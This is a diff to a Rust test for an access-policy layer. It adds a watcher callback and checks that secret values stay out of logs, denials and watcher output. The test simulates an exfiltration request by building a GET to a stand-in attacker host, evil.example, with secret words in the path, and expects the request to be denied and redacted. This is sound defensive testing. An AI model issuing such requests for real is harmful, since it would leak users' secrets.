@@ -342,7 +342,16 @@ async fn values_appear_in_no_record_log_denial_or_debug_output() {
     let records = Arc::new(Records::default());
     let grants = grants(&["secret:KEY"]);
     let access = crate::access::Access::new("p".parse().unwrap(), OWN, grants, records.clone());
-    let caller = crate::access::Caller::new(Arc::new(access.with_vault(vault)), "call".into());
+    let told = Arc::new(Mutex::new(String::new()));
+    let hears = Arc::clone(&told);
+    let access = Arc::new(access.with_vault(vault));
+    let caller = crate::access::Caller::watched(
+        access,
+        "call".into(),
+        Some(Arc::new(move |request, decision| {
+            *hears.lock().unwrap() += &format!("{request:?} {decision:?}");
+        })),
+    );
     let url = format!("https://evil.example/{WORDS}/b");
     let request = portcullis_host_policy::request::Request::Http(get(&url));
     let denial = caller.decide(&request).unwrap_err();
@@ -356,10 +365,12 @@ async fn values_appear_in_no_record_log_denial_or_debug_output() {
         remedies: Vec::new(),
     });
     let kept = format!("{:?} {:?}", caller.denials(), records.0.lock().unwrap());
-    assert!(
-        kept.contains("evil.example") && !kept.contains(WORDS),
-        "{kept}"
-    );
+    for text in [kept, told.lock().unwrap().clone()] {
+        assert!(
+            text.contains("evil.example") && !text.contains(WORDS),
+            "{text}"
+        );
+    }
 
     let lines = Arc::new(crate::state::testing::Collected::default());
     let log = caller.access.vault.log(lines.clone());
